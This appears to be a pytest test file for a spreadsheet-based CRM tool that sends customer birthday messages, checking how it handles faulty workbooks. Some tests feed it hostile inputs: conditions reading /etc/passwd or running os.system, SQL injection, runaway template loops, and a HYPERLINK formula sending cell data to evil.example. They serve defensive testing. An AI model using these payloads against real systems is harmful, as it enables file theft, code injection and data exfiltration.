"""What goes wrong in a team's hands: each with its own message, nothing lost, and the rest of the day goes on."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from crm_sheets.cli import main

Crm = Callable[..., tuple[int, Any]]
Make = Callable[..., Path]

CUSTOMERS = [
    ["ID Pelanggan", "Nama", "Sapaan", "Tanggal lahir", "Email", "Bahasa"],
    ["P1", "Budi Santoso", "Bapak", "1980-11-20", "budi@example.com", "Indonesia"],
    ["P2", "Sari Dewi", "Ibu", "1975-11-20", "sari@example.com", "Indonesia"],
]
PROGRAM_HEADER = [
    "ID Program", "Nama program", "Tujuan", "Peristiwa", "Pengulangan", "Syarat", "Saluran", "Templat",
]  # fmt: skip
BIRTHDAY = ["ultah", "Ulang tahun", "Ucapan", "Pelanggan.Tanggal lahir", "Tiap tahun", None, "Email", "ultah"]
TEMPLATE = "Subject: Selamat\n\nSelamat ulang tahun, {{ greeting_name }}!\n"


def put_template(workbook: Path, text: str) -> None:
    folder = workbook.parent / "templates"
    folder.mkdir(exist_ok=True)
    (folder / "ultah.email.id.txt").write_text(text, encoding="utf-8")


def found(crm: Crm, workbook: Path) -> dict[str, str]:
    """Problem code -> message and remedy, as `check` tells them."""
    code, problems = crm("check", workbook, "--language", "en")
    assert code == (1 if problems else 0)
    return {problem["code"]: f"{problem['where']}: {problem['message']} {problem['remedy']}" for problem in problems}


def test_a_workbook_without_customers_is_told_which_tab_is_missing(make_workbook: Make, crm: Crm) -> None:
    book = make_workbook(Catatan=[["Apa saja"], ["x"]])
    assert "Pelanggan" in found(crm, book)["missing_tab"]
    code, summary = crm("run nightly", book)
    assert code == 1
    assert summary["written"] == ["Masalah", "Catatan jalan"], "it says so in the workbook and adds nothing else"


def test_an_empty_workbook_is_told_the_same(make_workbook: Make, crm: Crm) -> None:
    book = make_workbook()
    assert "missing_tab" in found(crm, book)
    assert crm("run nightly", book)[0] == 1


def test_a_missing_column_is_named(make_workbook: Make, crm: Crm) -> None:
    book = make_workbook(Pelanggan=[["Nama"], ["Budi"]])
    assert "ID Pelanggan" in found(crm, book)["missing_column"]
    assert crm("run nightly", book)[0] == 1


def test_a_doubled_header_is_pointed_out_and_the_first_one_used(make_workbook: Make, crm: Crm) -> None:
    book = make_workbook(Pelanggan=[["ID Pelanggan", "Nama", "Nama"], ["P1", "Budi", "Sari"]])
    assert "C1" in found(crm, book)["doubled_header"]
    assert crm("run nightly", book)[1]["customers"] == 1


def test_merged_header_cells_are_pointed_out(tmp_path: Path, crm: Crm) -> None:
    path = tmp_path / "merged.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Pelanggan")
        sheet.merge_range("A1:B1", "ID Pelanggan")
        sheet.write_row("C1", ["Nama"])
        sheet.write_row("A2", ["P1", None, "Budi"])
    assert "Pelanggan" in found(crm, path)["merged_header"]


def test_wrong_ids_are_named_and_nothing_is_sent_for_them(make_workbook: Make, crm: Crm) -> None:
    family = [["ID Keluarga", "ID Pelanggan", "Nama", "Tanggal lahir"], ["K1", "P9", "Ani", "2010-11-20"]]
    programs = [PROGRAM_HEADER, [*BIRTHDAY[:3], "Keluarga.Tanggal lahir", *BIRTHDAY[4:]]]
    book = make_workbook(Pelanggan=CUSTOMERS, Keluarga=family, Program=programs)
    put_template(book, TEMPLATE)
    assert "P9" in found(crm, book)["unknown_reference"]
    assert crm("run nightly", book)[1]["sent"] == 0


def test_without_a_company_no_message_goes_out_under_a_placeholder(make_workbook: Make, crm: Crm) -> None:
    nobody = [["Pengaturan", "Nilai"], ["language", "id"]]
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, BIRTHDAY], Pengaturan=nobody)
    put_template(book, TEMPLATE + "Salam, {{ settings.company }}\n")
    assert "company" in found(crm, book)["missing_setting"]
    assert crm("run nightly", book)[1]["skipped"] == {"missing_value": 2}


@pytest.mark.parametrize(
    "endless",
    [
        "{% for i in range(10 ** 9) %}x{% endfor %}",
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 10 ** 9 }}",
        "{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}",
    ],
)
def test_a_template_that_never_ends_stops_only_its_message(make_workbook: Make, crm: Crm, endless: str) -> None:
    gift = [*BIRTHDAY[:6], "Hadiah", "kado"]
    gift[0] = "ultah_kado"
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, BIRTHDAY, gift])
    put_template(book, f"Subject: Selamat\n\n{endless}\n")
    (book.parent / "templates" / "kado.gift.id.txt").write_text("Antarkan kue.", encoding="utf-8")
    code, summary = crm("run nightly", book)
    assert code == 0
    assert summary["skipped"] == {"template_problem": 2}
    assert summary["queued"] == 2


def test_a_missing_value_stops_only_that_message(make_workbook: Make, crm: Crm) -> None:
    customers = [[*row, hobby] for row, hobby in zip(CUSTOMERS, ["Hobi", "sepeda", None], strict=True)]
    book = make_workbook(Pelanggan=customers, Program=[PROGRAM_HEADER, BIRTHDAY])
    put_template(book, TEMPLATE + "Semoga makin asyik {{ customer.hobbies }}!\n")
    _, summary = crm("run nightly", book)
    assert (summary["sent"], summary["skipped"]) == (1, {"missing_value": 1})
    plan = crm("plan", book)[1]
    assert plan  # the day after the run: the one that was sent is done, the other still lacks its value
    assert {(row["customer_id"], row["reason"]) for row in plan} == {("P1", "already_done"), ("P2", "missing_value")}


@pytest.mark.parametrize(
    "condition",
    [
        "read_csv('/etc/passwd')",
        "name in (select * from read_text('/etc/passwd'))",
        "__import__('os').system('true')",
        "1 = 1; drop table customers",
    ],
)
def test_a_condition_can_reach_nothing_but_columns(make_workbook: Make, crm: Crm, condition: str) -> None:
    program = [*BIRTHDAY]
    program[5] = condition
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, program])
    put_template(book, TEMPLATE)
    assert "Program!F2" in found(crm, book)["bad_condition"]
    assert crm("run nightly", book)[1]["sent"] == 0


def test_a_misspelt_column_in_a_condition_is_asked_back(make_workbook: Make, crm: Crm) -> None:
    program = [*BIRTHDAY]
    program[5] = "tierr = 'Gold'"
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, program])
    assert "tier" in found(crm, book)["bad_condition"]


def test_a_date_that_no_calendar_has_is_one_faulty_cell(tmp_path: Path, crm: Crm) -> None:
    path = tmp_path / "book.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        day = book.add_format({"num_format": "dd/mm/yyyy"})
        sheet = book.add_worksheet("Pelanggan")
        sheet.write_row(0, 0, ["ID Pelanggan", "Nama", "Tanggal lahir"])
        sheet.write_row(1, 0, ["P1", "Budi"])
        sheet.write_number(1, 2, -6281234567890, day)
        sheet.write_row(2, 0, ["P2", "Sari"])
        sheet.write_number(2, 2, 29000, day)
    assert "Pelanggan!C2" in found(crm, path)["bad_date"]
    assert crm("run nightly", path)[1]["customers"] == 2


def test_hostile_text_stays_text(make_workbook: Make, crm: Crm) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")<script>{{ 1234*5678 }}'
    customers = [CUSTOMERS[0], ["P1", hostile, "Bapak", "1980-11-20", "budi@example.com", "Indonesia"]]
    book = make_workbook(Pelanggan=customers, Program=[PROGRAM_HEADER, BIRTHDAY])
    put_template(book, TEMPLATE)
    _, summary = crm("run nightly", book)
    assert summary["sent"] == 1
    (mail,) = (book.parent / "outbox").rglob("*.eml")
    assert "7006652" not in mail.read_text(encoding="utf-8").split("\n\n", 1)[1]


@pytest.mark.parametrize(
    ("content", "says"), [(b"not a workbook at all", "not"), (b"PK\x03\x04broken", "damaged|cannot|not")]
)
def test_a_file_that_is_no_workbook_is_one_paragraph(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, says: str
) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(content)
    assert main(["run", "nightly", "--workbook", str(path)]) == 2
    said = capsys.readouterr().err
    assert said.startswith("Error: ")
    assert "book.xlsx" in said
    assert "Traceback" not in said
    assert path.read_bytes() == content


def test_a_workbook_that_is_not_there_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["run", "nightly", "--workbook", str(tmp_path / "nowhere.xlsx")]) == 2
    assert "nowhere.xlsx" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("lock_name", ["~$book.xlsx", ".~lock.book.xlsx#"])
def test_an_open_workbook_stops_the_run_before_anything_is_sent(make_workbook: Make, crm: Crm, lock_name: str) -> None:
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, BIRTHDAY])
    put_template(book, TEMPLATE)
    (book.parent / lock_name).write_bytes(b"Rina")
    code, said = crm("run nightly", book)
    assert code == 5
    assert "book.xlsx" in said
    assert not (book.parent / "outbox").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ["run", "everything"],
        ["run", "nightly", "--as-of", "20/11/2026"],
        ["frobnicate"],
        ["report", "--period", "soon"],
    ],
)
def test_a_wrong_command_line_is_a_usage_error(
    arguments: list[str], sample_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    given = [] if arguments == ["frobnicate"] else ["--workbook", str(sample_copy)]
    assert main([*arguments, *given]) == 2
    said = capsys.readouterr().err
    assert "Usage" in said or "Error" in said
    assert "Traceback" not in said


def sent_files(book: Path) -> int:
    return len(list((book.parent / "outbox").rglob("*--*.*")))


def retype(book: Path, title: str, cell: str, value: object) -> None:
    opened = openpyxl.load_workbook(book)
    opened[title][cell].value = value
    opened.save(book)


def test_a_tab_of_the_team_with_a_job_tabs_title_stops_the_run_before_anything_is_sent(
    make_workbook: Make, crm: Crm
) -> None:
    own = [["Angka kami sendiri"], ["42"]]
    book = make_workbook(Pelanggan=CUSTOMERS, Program=[PROGRAM_HEADER, BIRTHDAY], Dasbor=own)
    put_template(book, TEMPLATE)
    code, said = crm("run nightly", book)
    assert code == 2
    assert "Dasbor" in said
    assert sent_files(book) == 0


def test_a_header_missing_from_the_queue_stops_the_run_before_anything_is_sent(sample_copy: Path, crm: Crm) -> None:
    header = [cell.value for cell in openpyxl.load_workbook(sample_copy)["Antrean"][1]]
    retype(sample_copy, "Antrean", f"{chr(65 + header.index('Alasan'))}1", "Sebab kita")
    code, said = crm("run nightly", sample_copy)
    assert code == 2
    assert "Antrean" in said
    assert sent_files(sample_copy) == 0


def test_a_team_may_change_its_language_between_two_runs(sample_copy: Path, crm: Crm) -> None:
    crm("run nightly", sample_copy)
    before = openpyxl.load_workbook(sample_copy).sheetnames
    settings = openpyxl.load_workbook(sample_copy)["Pengaturan"]
    (row,) = [line[0].row for line in settings.iter_rows() if line[0].value == "language"]
    retype(sample_copy, "Pengaturan", f"B{row}", "en")
    code, summary = crm("run nightly", sample_copy, as_of="2026-11-21")
    assert code == 0
    assert summary["sent"] > 0
    after = openpyxl.load_workbook(sample_copy)
    assert after.sheetnames == before, "no tab is made twice"
    assert after["Masalah"]["A1"].value == "Severity"
    links = {cell.hyperlink.location for line in after["Dasbor"].iter_rows() for cell in line if cell.hyperlink}
    assert any("Rencana" in link for link in links if link)
    assert not any("Plan" in link for link in links if link)
